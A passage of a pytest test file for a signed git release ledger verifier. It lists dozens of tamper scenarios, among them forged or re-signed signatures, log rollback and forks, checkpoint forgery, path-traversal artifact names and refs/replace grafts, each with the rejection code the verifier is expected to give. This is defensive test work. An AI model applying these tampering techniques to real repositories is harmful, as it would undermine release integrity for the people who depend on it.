        FORGED, atk_sig_transplant, ("--all",), ("VM-SIG-INVALID",)),
    Row("sig-signer-relabel", "relabel the deploy signature's signer as Mallory (the sig is Alice's)",
        FORGED, atk_sig_signer_relabel, ("--all",), ("VM-SIG-INVALID",)),
    Row("resign-untrusted", "re-sign the deploy entry and the checkpoints with Mallory's key (not in policy)",
        KEY, atk_resign_untrusted, ("--all",), ("VM-SIG-UNPINNED", "VM-CHECKPOINT-SIG")),
    Row("resign-untrusted-claims-alice", "Mallory's signature on the deploy entry, labelled as Alice's",
        KEY, atk_resign_untrusted_claims_alice, ("--all",), ("VM-SIG-UNPINNED",)),
    Row("strip-sigs", "remove every signature of the deploy entry",
        FORGED, atk_strip_sigs, ("--all",), ("VM-SIG-MISSING",)),
    Row("sig-garbage-base64", "deploy signature is not base64",
        FORGED, atk_sig_garbage_base64, ("--all",), ("VM-SIG-MALFORMED",)),
    Row("sig-not-a-packet", "deploy signature is base64 of bytes that are no OpenPGP packet",
        FORGED, atk_sig_not_a_packet, ("--all",), ("VM-SIG-MALFORMED",)),
    Row("sig-two-packets", "two signature packets (Alice's + Mallory's) smuggled into one sig",
        FORGED, atk_sig_two_packets, ("--all",), ("VM-SIG-MALFORMED",)),
    Row("sig-unknown-format", "deploy signature claims format x509",
        FORGED, atk_sig_unknown_format, ("--all",), ("VM-SIG-MALFORMED",)),
    # B. log structure
    Row("remove-entry-gap", "delete entry #2 (release v1.1) in a commit on top",
        DELETION, atk_remove_entry_gap, ("--all",), ("VM-LOG-GAP",)),
    Row("remove-last-on-top", "delete the newest entry (#3) in a commit on top",
        DELETION, atk_remove_last_on_top, ("--all",), ("VM-LOG-NOT-APPEND-ONLY",)),
    Row("reorder-on-top", "swap entries #1 and #2 in a commit on top",
        FORGED, atk_reorder_on_top, ("--all",), ("VM-LOG-NOT-APPEND-ONLY",)),
    Row("reorder-rewritten", "swap #1 and #2 and rewrite the chain, checkpoints re-signed (stolen key)",
        KEY, atk_reorder_rewritten, ("v1.1",), ("VM-HISTORY-BASE",),
        "v1.1's receipt names v1.0's receipt as its base; after the swap the base is no longer earlier"),
    Row("duplicate-entry", "append a byte-identical copy of v1.0's release entry",
        REPLAY, atk_duplicate_entry, ("--all",), ("VM-ENTRY-DUPLICATE",)),
    Row("second-release-same-tag", "a second, validly signed release for refs/tags/v1.0",
        KEY, atk_second_release_same_tag, ("--all",), ("VM-ENTRY-DUPLICATE",)),
    Row("seq-skip", "append an entry at #5, leaving #4 empty",
        FORGED, atk_seq_skip, ("--all",), ("VM-LOG-GAP",)),
    Row("replay-other-ledger", "append a release entry signed by Alice for ANOTHER ledger (other log id)",
        REPLAY, atk_replay_other_ledger, ("--all",), ("VM-ENTRY-WRONG-LOG",)),
    Row("extra-file", "add a README to the log tree",
        FORGED, atk_extra_file, ("--all",), ("VM-LOG-CORRUPT",)),
    Row("stray-entry-name", "add entries/.../000000000004.json.orig",
        FORGED, atk_stray_entry_name, ("--all",), ("VM-LOG-CORRUPT",)),
    Row("entry-as-gitlink", "entry #4 is a gitlink (mode 160000), not a blob",
        FORGED, atk_entry_as_gitlink, ("--all",), ("VM-LOG-CORRUPT",)),
    Row("merge-commit", "a merge commit in the log (second parent: a divergent append)",
        FORK, atk_merge_commit, ("--all",), ("VM-LOG-NOT-APPEND-ONLY",)),
    Row("entry-wrong-fanout", "entry #4 stored under entries/000/001/ (fan-out of another seq)",
        FORGED, atk_entry_wrong_fanout, ("--all",), ("VM-LOG-CORRUPT",)),
    Row("entry-symlink", "a validly signed entry #4 stored as a symlink (mode 120000), re-signed checkpoint",
        FORGED, atk_entry_symlink, ("--all",), ("VM-LOG-CORRUPT",)),
    Row("append-without-checkpoint", "a validly signed entry #4 added on top, checkpoint left at size 4",
        FORGED, atk_append_without_checkpoint, ("--all",), ("VM-CHECKPOINT-MISMATCH",)),
    Row("log-ref-to-blob", "refs/vaultmesh/log points at a blob",
        DOS, atk_log_ref_to_blob, ("--all",), ("VM-LOG-CORRUPT",)),
    Row("log-commit-missing", "an old log commit object is deleted",
        DOS, atk_log_commit_missing, ("--all",), ("VM-LOG-CORRUPT",)),
    # C. rollback, fork, replaced log, trust root
    Row("rollback", "after a remembered verify, rewind log and notes to size 3",
        ROLLBACK, atk_rollback, ("--all",), ("VM-LOG-ROLLBACK",)),
    Row("fork-shorter", "after a remembered verify, rewrite the chain without v1.1 (size 3), re-signed",
        ROLLBACK, atk_fork_shorter, ("--all",), ("VM-LOG-ROLLBACK",),
        "smaller than the remembered size: a prefix check is impossible without the old leaves, so rollback"),
    Row("fork-same-size",
        "after a remembered verify, rewrite the chain minus v1.1 plus a new deploy, re-signed", FORK,
        atk_fork_same_size, ("--all",), ("VM-LOG-FORKED",)),
    Row("replace-log-other-key", "replace the log by a fresh `init` signed by Mallory",
        KEY, atk_replace_log_other_key, ("--all",), ("VM-TRUST-ROOT-MISMATCH",)),
    Row("replace-log-flag-pin", "same, trust root given as --trust-root only",
        KEY, atk_replace_log_flag_pin, ("--all", "--trust-root", "{alice}"), ("VM-TRUST-ROOT-MISMATCH",)),
    Row("replace-log-tofu-remembered", "no pin (TOFU), remembered checkpoint; log replaced by Mallory's",
        FORK, atk_replace_log_tofu_remembered, ("--all",), ("VM-LOG-FORKED",)),
    Row("replace-log-same-key", "remembered checkpoint; log replaced by another ledger of the same key",
        FORK, atk_replace_log_same_key, ("--all",), ("VM-LOG-FORKED",)),
    Row("toml-trust-root", "committed .vaultmesh.toml names Mallory as trust root; log replaced by Mallory's",
        KEY, atk_toml_trust_root, ("--all",), ("VM-TRUST-ROOT-MISMATCH",)),
    Row("genesis-dropped", "rewrite the chain without the genesis policy, re-signed",
        FORGED, atk_genesis_dropped, ("--all",), ("VM-LOG-GENESIS",)),
    Row("genesis-swapped", "replace the genesis policy by one trusting Mallory, everything re-signed",
        KEY, atk_genesis_swapped, ("--all",), ("VM-TRUST-ROOT-MISMATCH",)),
    # D. checkpoints
    Row("checkpoint-forged-root", "change the checkpoint's root, keep its old signature",
        FORGED, atk_checkpoint_forged_root, ("--all",), ("VM-CHECKPOINT-MISMATCH",)),
    Row("checkpoint-sig-replayed", "a new append whose checkpoint.sig is the one of an older checkpoint",
        REPLAY, atk_checkpoint_sig_replayed, ("--all",), ("VM-CHECKPOINT-SIG",)),
    Row("checkpoint-untrusted-signer", "an append whose checkpoint is signed by Mallory",
        KEY, atk_checkpoint_untrusted_signer, ("--all",), ("VM-CHECKPOINT-SIG",)),
    Row("checkpoint-sig-removed", "delete checkpoint.sig in a commit on top",
        FORGED, atk_checkpoint_sig_removed, ("--all",), ("VM-CHECKPOINT-MISSING",)),
    Row("checkpoint-removed", "delete checkpoint in a commit on top",
        FORGED, atk_checkpoint_removed, ("--all",), ("VM-CHECKPOINT-MISSING",)),
    Row("checkpoint-other-log", "checkpoint names another log id (right size and root), signed by Alice",
        MIX, atk_checkpoint_other_log, ("--all",), ("VM-CHECKPOINT-MISMATCH",)),
    Row("checkpoint-malformed", "checkpoint with an extra line, signed by Alice",
        FORGED, atk_checkpoint_malformed, ("--all",), ("VM-CHECKPOINT-MALFORMED",)),
    Row("checkpoint-sig-garbage", "checkpoint.sig is an empty armour block",
        FORGED, atk_checkpoint_sig_garbage, ("--all",), ("VM-CHECKPOINT-SIG",)),
    # E. entry encoding (validly signed, consistent checkpoint: only the parser stands in the way)
    Row("unknown-type", "validly signed entry of body.type 'exec'",
        FORGED, atk_unknown_type, ("--all",), ("VM-ENTRY-UNKNOWN-TYPE",)),
    Row("extra-field", "validly signed deploy with an extra field 'admin'",
        FORGED, atk_extra_field, ("--all",), ("VM-ENTRY-MALFORMED",)),
    Row("duplicate-key", "body with two 'type' keys (deploy, then policy)",
        FORGED, atk_duplicate_key, ("--all",), ("VM-ENTRY-MALFORMED",)),
    Row("noncanon-spaces", "entry JSON with spaces after ':' and ','",
        FORGED, atk_noncanon_spaces, ("--all",), ("VM-ENTRY-MALFORMED",)),
    Row("noncanon-key-order", "entry JSON with keys in reverse order",
        FORGED, atk_noncanon_key_order, ("--all",), ("VM-ENTRY-MALFORMED",)),
    Row("noncanon-number", '"v":1.0 instead of "v":1',
        FORGED, atk_noncanon_number, ("--all",), ("VM-ENTRY-MALFORMED",)),
    Row("noncanon-escape", "a \\u0041 escape where JCS writes the character",
        FORGED, atk_noncanon_escape, ("--all",), ("VM-ENTRY-MALFORMED",)),
    Row("float-number", "validly signed decision whose status is the number 1.5",
        FORGED, atk_float_number, ("--all",), ("VM-ENTRY-MALFORMED",)),
    Row("version-true", '"v":true (equal to 1 in Python)',
        FORGED, atk_version_true, ("--all",), ("VM-ENTRY-MALFORMED",)),
    Row("invalid-utf8", "a byte 0xFF inside a string",
        FORGED, atk_invalid_utf8, ("--all",), ("VM-ENTRY-MALFORMED",)),
    Row("oversized", "validly signed entry line over 1 MiB",
        ENDLESS, atk_oversized, ("--all",), ("VM-ENTRY-MALFORMED",)),
    Row("artifact-dotdot", "artifact named '../x'",
        TRAVERSAL, atk_artifact_dotdot, ("--all",), ("VM-ENTRY-MALFORMED",)),
    Row("artifact-slash", "artifact named 'a/b'",
        TRAVERSAL, atk_artifact_slash, ("--all",), ("VM-ENTRY-MALFORMED",)),
    Row("artifact-empty", "artifact named ''",
        TRAVERSAL, atk_artifact_empty, ("--all",), ("VM-ENTRY-MALFORMED",)),
    Row("two-lines", "an entry file holding two entry lines",
        FORGED, atk_two_lines, ("--all",), ("VM-ENTRY-MALFORMED",)),
    Row("crlf", "an entry file ending in CRLF", FORGED, atk_crlf, ("--all",), ("VM-ENTRY-MALFORMED",)),
    Row("short-subject-oid", "validly signed deploy naming an abbreviated commit id",
        FORGED, atk_short_subject_oid, ("--all",), ("VM-ENTRY-MALFORMED",)),
    # F. policy, rotation, thresholds, cosign
    Row("policy-takeover", "policy adding Mallory signed by Mallory only, then a deploy signed by Mallory",
        KEY, atk_policy_takeover, ("--all",), ("VM-POLICY-UNAUTHORIZED", "VM-SIG-UNPINNED")),
    Row("policy-rollback-replay",
        "a retired signer replays the policy entry that pinned it, then signs a deploy", ROLLBACK,
        atk_policy_rollback_replay, ("--all",), ("VM-ENTRY-DUPLICATE", "VM-SIG-UNPINNED"),
        "the replayed policy is a duplicate body, so it is never adopted: the deploy stays unpinned"),
    Row("removed-signer-signs", "after remove-signer bob, bob's key signs a deploy and its checkpoint",
        KEY, atk_removed_signer_signs, ("--all",), ("VM-SIG-UNPINNED", "VM-CHECKPOINT-SIG")),
    Row("threshold-single-key", "release threshold 2 (alice, bob); a v2.0 release signed by alice alone",
        KEY, atk_threshold_single_key, ("v2.0",), ("VM-SIG-PENDING",)),
    Row("threshold-same-key-twice", "release threshold 2; v2.0 release carrying two signatures by alice",
        KEY, atk_threshold_same_key_twice, ("v2.0",), ("VM-SIG-PENDING",)),
    Row("cosign-missing-target", "validly signed cosign of a body digest that is in no entry",
        FORGED, atk_cosign_missing_target, ("--all",), ("VM-ENTRY-REF-INVALID",)),
    Row("cosign-forward-ref", "validly signed cosign of an entry appended after it",
        FORGED, atk_cosign_forward_ref, ("--all",), ("VM-ENTRY-REF-INVALID",)),
    # G. tags, history, artifacts, subjects
    Row("tag-moved", "move tag v1.0 to the hotfix commit",
        WRONG, atk_tag_moved, ("v1.0",), ("VM-TAG-MOVED",)),
    Row("tag-retagged-same-commit", "re-create annotated tag v1.0 on the same commit (new tag object)",
        WRONG, atk_tag_retagged_same_commit, ("v1.0",), ("VM-TAG-MOVED",)),
    Row("tag-deleted", "delete tag v1.0", DELETION, atk_tag_deleted, ("v1.0",), ("VM-TAG-MISSING",)),
    Row("history-rewritten-retag", "amend commit 1 under v1.0, rebuild commit 2, re-tag v1.0 there",
        WRONG, atk_history_rewritten_retag, ("v1.0",), ("VM-TAG-MOVED",),
        "the recorded commit is still in the object store and still hashes to the recorded history;"
        " what changed is what the tag names"),
    Row("history-rewritten-pruned", "rewrite all of main, re-tag both, drop keep refs, gc --prune=now",
        WRONG, atk_history_rewritten_pruned, ("--all",), ("VM-TAG-MOVED", "VM-SUBJECT-MISSING")),
    Row("replace-blob", "refs/replace substitutes a file blob of v1.0 (checkout would show it)",
        WRONG, atk_replace_blob, ("v1.0",), ("VM-TREE-DIGEST-MISMATCH",)),
    Row("replace-graft", "refs/replace grafts v1.1's commit onto commit 0 (history shown differs)",
        WRONG, atk_replace_graft, ("v1.1",), ("VM-HISTORY-MISMATCH",)),
    Row("replace-tag-object", "refs/replace substitutes v1.0's tag object by one naming the hotfix commit",
        WRONG, atk_replace_tag_object, ("v1.0",), ("VM-TAG-MOVED",)),
    Row("graft-file", "a legacy .git/info/grafts file cuts commit 1 out of v1.0's history",
        WRONG, atk_graft_file, ("v1.0",), ("VM-HISTORY-MISMATCH",)),
    Row("artifact-changed", "one byte of app.tar changed",
        ARBITRARY, atk_artifact_changed, ("v1.0", "--artifact", "{art}/app.tar"), ("VM-ARTIFACT-MISMATCH",)),
    Row("artifact-not-recorded", "verify v1.0 with a file its receipt does not name",
        ARBITRARY, atk_artifact_not_recorded, ("v1.0", "--artifact", "{art}/evil.bin"),
        ("VM-ARTIFACT-NOT-RECORDED",)),
    Row("artifact-shadowed", "a tampered app.tar and the genuine one given together (same file name)",
        ARBITRARY, atk_artifact_shadowed,
        ("v1.0", "--artifact", "{art}/evil/app.tar", "--artifact", "{art}/app.tar"),
        ("VM-ARTIFACT-MISMATCH",)),
    Row("artifact-mix-and-match", "v1.0's genuine artifact presented as v1.1's",
        MIX, atk_artifact_mix_and_match, ("v1.1", "--artifact", "{art}/app.tar"),
        ("VM-ARTIFACT-NOT-RECORDED",)),
    Row("deploy-subject-missing", "the deployed commit's object is deleted",
        DOS, atk_deploy_subject_missing, ("--all",), ("VM-SUBJECT-MISSING",)),
    Row("released-blob-missing", "a blob of v1.0's tree is deleted",
        DOS, atk_released_blob_missing, ("v1.0",), ("VM-SUBJECT-MISSING",)),
    # H. notes
    Row("notes-swapped", "the note on v1.0's commit replaced by other content",
        FORGED, atk_notes_swapped, ("v1.0",), ("VM-NOTES-MISMATCH",)),
    Row("notes-deleted", "refs/notes/vaultmesh deleted",
        DELETION, atk_notes_deleted, ("v1.0",), ("VM-NOTES-MISMATCH",)),
    Row("notes-ref-to-blob", "refs/notes/vaultmesh points at a blob",
        DOS, atk_notes_ref_to_blob, ("v1.0",), ("VM-NOTES-MISMATCH",)),
    Row("notes-shadow-fanout", "genuine note at the flat path, a forged one at the fan-out path of v1.0's commit",
        FORGED, atk_notes_shadow_fanout, ("v1.0",), ("VM-NOTES-MISMATCH",)),
    Row("notes-extra", "a note holding v1.0's entry attached to an unrecorded commit",
        MIX, atk_notes_extra, ("--all",), ("VM-NOTES-MISMATCH",)),
    # I. object store corruption
    Row("loose-entry-truncated", "the loose object of entry #2 truncated to half",
        DOS, atk_loose_entry_truncated, ("--all",), ("VM-LOG-CORRUPT",)),
    Row("loose-entry-deleted", "the loose object of entry #2 deleted",
        DOS, atk_loose_entry_deleted, ("--all",), ("VM-LOG-CORRUPT",)),
    Row("pack-corrupted", "after git gc, bytes of entry #2's packed data flipped",
        DOS, atk_pack_corrupted, ("--all",), ("VM-LOG-CORRUPT",)),
    # J. absent or unrecorded
    Row("not-initialized", "refs/vaultmesh/log deleted",
        DELETION, atk_not_initialized, ("--all",), ("VM-NOT-INITIALIZED",)),
    Row("unrecorded-tag", "verify a tag no receipt names",
        WRONG, atk_unrecorded_tag, ("v2.0",), ("VM-NOT-RECORDED",)),
    Row("unknown-rev", "verify a name that names nothing", WRONG, atk_nothing, ("v9.9",), ("VM-BAD-REV",)),
]


# --- controls: the matrix can fail --------------------------------------------------------------------------


def test_control_pristine_copy_verifies(ctx: Ctx) -> None:
    for args in (("--all",), ("v1.0", "--artifact", str(ctx.art / "app.tar")),
                 ("v1.1", "--artifact", str(ctx.art / "app-1.1.tar")), ("main",)):
        code, report = verify_json(ctx, *args)
        assert code == 0 and report["ok"], (args, failed_codes(report), report)
        assert report["trust"] == "pinned"


def test_control_faithful_rewrite_verifies(ctx: Ctx) -> None:
    """The toolkit's rewrite and append, used honestly with Alice's key, give a ledger that verifies."""
    ctx.t.rewrite(ctx.t.blobs(), ctx.alice, sizes=ctx.t.sizes())
    append_signed(ctx, deploy_body(ctx))
    code, report = verify_json(ctx, "--all")
    assert code == 0 and report["ok"], failed_codes(report)


def test_control_rotation_verifies(ctx: Ctx) -> None:
    """While bob is pinned his deploy and checkpoint verify: the rotation rows fail because of the removal."""
    add_bob(ctx)
    ctx.t.append([ctx.t.signed(ctx.mallory, deploy_body(ctx))], ctx.mallory)
    code, report = verify_json(ctx, "--all")
    assert code == 0 and report["ok"], failed_codes(report)


def test_rows_are_distinct() -> None:
    assert len(ROWS) >= 40
    assert len({r.id for r in ROWS}) == len(ROWS)
    assert len({r.attack for r in ROWS if r.attack is not atk_nothing}) >= len(ROWS) - 1
    doc = Path(__file__).resolve().parents[2] / "docs" / "threat-model.md"
    text = doc.read_text(encoding="utf-8")
    missing = [r.id for r in ROWS if f"`{r.id}`" not in text]
    assert not missing, f"rows missing from docs/threat-model.md: {missing}"


# --- the matrix ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("row", ROWS, ids=[r.id for r in ROWS])
def test_tamper_row(row: Row, ctx: Ctx) -> None:
    TALLY.tried.append(row.id)
    row.attack(ctx)
    args = [a.format(art=ctx.art, alice=ctx.alice.fingerprint) for a in row.args]
    TALLY.problems[row.id] = "verify crashed or printed no report of the documented schema"
    code, report = verify_json(ctx, *args)
    del TALLY.problems[row.id]
    failed = failed_codes(report)
    TALLY.got[row.id] = list(dict.fromkeys(failed))
    if code == 0 or report["ok"]:
        TALLY.problems[row.id] = "ACCEPTED"
        pytest.fail(f"{row.id}: tamper accepted (exit {code})")
    assert code == 1, code
    missing = [want for want in row.expect if not set(want.split("|")) & set(failed)]
    if missing:
        TALLY.problems[row.id] = f"rejected, but without {missing} (got {sorted(set(failed))})"
        pytest.fail(f"{row.id}: expected {missing} among the failed codes, got {failed}")
    assert_hints_fit(report)  # the hints audit (tests/test_hints.py): each failure's hint names its remedy
    TALLY.rejected.append(row.id)


def test_figures(request: pytest.FixtureRequest) -> None:
    """Runs last: prints the figures; with the whole matrix run, every row must have been rejected."""
    line = f"tamper rows tried: {len(TALLY.tried)}, rejected with the right code: {len(TALLY.rejected)}"
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    if reporter is not None and request.config.get_verbosity() >= 0:  # -q stays quiet
        reporter.write_line("\n" + line)
    if len(TALLY.tried) == len(ROWS):
        assert len(TALLY.rejected) == len(ROWS), TALLY.problems


